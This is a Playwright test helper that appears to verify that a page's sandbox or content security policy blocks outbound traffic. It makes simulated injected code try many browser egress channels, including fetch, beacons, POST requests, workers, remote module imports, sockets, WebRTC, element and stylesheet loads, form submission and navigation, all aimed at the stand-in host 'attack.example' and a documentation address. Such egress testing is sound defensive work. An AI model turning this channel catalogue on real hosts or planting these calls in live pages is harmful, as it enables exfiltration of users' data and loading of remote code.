import type { Page } from '@playwright/test';

/** An address of the block reserved for documentation (RFC 5737), and one that needs a name server. */
const target = '198.51.100.7';
const targetName = 'attack.example';

/**
 * Tries every way out that a page has, as injected code would: requests, elements that load, style sheets, sockets,
 * peer connections, workers, navigation. Resolves with the names of the channels tried.
 */
export async function attackFromPage(page: Page): Promise<readonly string[]> {
  const tried = [
    ...(await page.evaluate(tryRequests, { target, targetName })),
    ...(await page.evaluate(tryElements, { target, targetName })),
    ...(await page.evaluate(trySockets, { target, targetName })),
    ...(await page.evaluate(tryNavigation, { target, targetName })),
  ];
  return tried;
}

interface Targets {
  readonly target: string;
  readonly targetName: string;
}

/* The functions below run in the page: each stands alone. */

async function tryRequests({ target: address, targetName: name }: Targets): Promise<string[]> {
  const hosts = [address, name, '[2001:db8::7]', 'localhost', '127.0.0.1'];
  const tried: string[] = [];
  const attempt = async (channel: string, work: () => unknown): Promise<void> => {
    tried.push(channel);
    // Where a channel is open, nobody answers at the other end.
    const nobodyAnswers = new Promise((resolve) => {
      AbortSignal.timeout(500).addEventListener('abort', resolve);
    });
    try {
      await Promise.race([work(), nobodyAnswers]);
    } catch {
      // Refused, as it should be.
    }
  };
  for (const host of hosts) {
    await attempt('fetch', () => fetch(`https://${host}/x`, { mode: 'no-cors' }));
    await attempt('fetch plain', () => fetch(`http://${host}/x`, { mode: 'no-cors', keepalive: true }));
    await attempt('request', () => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('POST', `http://${host}/x`);
      request.send('x');
    }));
    await attempt('beacon', () => navigator.sendBeacon(`https://${host}/x`, 'x'));
    await attempt('event source', () => new EventSource(`https://${host}/x`).close());
    await attempt('cache', () => caches.open('x').then((cache) => cache.add(`https://${host}/x`)));
    await attempt('module', () => import(/* @vite-ignore */ `https://${host}/x.js`));
    await attempt('worker', () => new Worker(`https://${host}/x.js`));
    await attempt('shared worker', () => new SharedWorker(`https://${host}/x.js`));
    await attempt('service worker', () => navigator.serviceWorker.register(`https://${host}/x.js`));
    await attempt('font', () => new FontFace('x', `url(https://${host}/x.woff2)`).load());
    await attempt('worklet', () => new AudioContext().audioWorklet.addModule(`https://${host}/x.js`));
  }
  return tried;
}

async function tryElements({ target: address, targetName: name }: Targets): Promise<string[]> {
  const tried: string[] = [];
  const add = (tag: string, attributes: Record<string, string>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    tried.push(`${tag} ${attributes['rel'] ?? ''}`.trim());
    return element;
  };
  for (const host of [address, name]) {
    const url = `https://${host}/x`;
    for (const tag of ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'track', 'source', 'frame']) add(tag, { src: url });
    add('img', { srcset: `${url} 2x` });
    add('object', { data: url });
    add('link', { rel: 'icon', href: url });
    for (const rel of ['stylesheet', 'preload', 'modulepreload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'manifest']) {
      add('link', { rel, href: url, as: 'script' });
    }
    add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' });
    add('body', { background: url });
    add('input', { type: 'image', src: url });
    add('video', { poster: url });
    const style = add('style', {});
    style.textContent = `@import url(${url}); body { background: url(${url}) }`;
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    document.body.style.setProperty('list-style-image', `url(${url})`);
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    svg.setAttribute('href', url);
    const holder = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    holder.append(svg);
    document.body.append(holder);
    const link = add('a', { href: '#', ping: url });
    link.click();
    const form = document.createElement('form');
    form.action = url;
    form.method = 'post';
    document.body.append(form);
    form.submit();
  }
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return tried;
}

async function trySockets({ target: address, targetName: name }: Targets): Promise<string[]> {
  const tried: string[] = [];
  const attempt = async (channel: string, work: () => unknown): Promise<void> => {
    tried.push(channel);
    // Where a channel is open, nobody answers at the other end.
    const nobodyAnswers = new Promise((resolve) => {
      AbortSignal.timeout(500).addEventListener('abort', resolve);
    });
    try {
      await Promise.race([work(), nobodyAnswers]);
    } catch {
      // Refused, as it should be.
    }
  };
  for (const host of [address, name]) {
    await attempt('web socket', () => new WebSocket(`wss://${host}/x`));
    await attempt('web socket plain', () => new WebSocket(`ws://${host}/x`));
    await attempt('web transport', () => {
      const transport: new (url: string) => { ready: Promise<void>; closed: Promise<unknown> } = Reflect.get(window, 'WebTransport');
      const connection = new transport(`https://${host}:4433/x`);
      connection.closed.catch(() => undefined);
      return connection.ready;
    });
    await attempt('peer connection', async () => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: [`stun:${host}:3478`] },
          { urls: [`turn:${host}:3478?transport=udp`, `turn:${host}:3478?transport=tcp`, `turns:${host}:5349`], username: 'x', credential: 'x' },
        ],
      });
      connection.createDataChannel('x');
      const complete = new Promise((resolve) => {
        connection.onicecandidate = ({ candidate }) => {
          if (candidate === null) resolve(null);
        };
      });
      await connection.setLocalDescription(await connection.createOffer());
      await connection.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 ${host} 50000 typ host`, sdpMid: '0' }).catch(() => undefined);
      await complete;
      connection.close();
    });
  }
  return tried;
}

async function tryNavigation({ target: address, targetName: name }: Targets): Promise<string[]> {
  const tried: string[] = [];
  for (const host of [address, name]) {
    for (const protocol of ['https', 'http', 'ftp', 'mailto']) {
      tried.push(`window ${protocol}`, `navigation ${protocol}`);
      window.open(`${protocol}://${host}/x`);
      window.location.href = `${protocol}://${host}/x`;
    }
  }
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return tried;
}
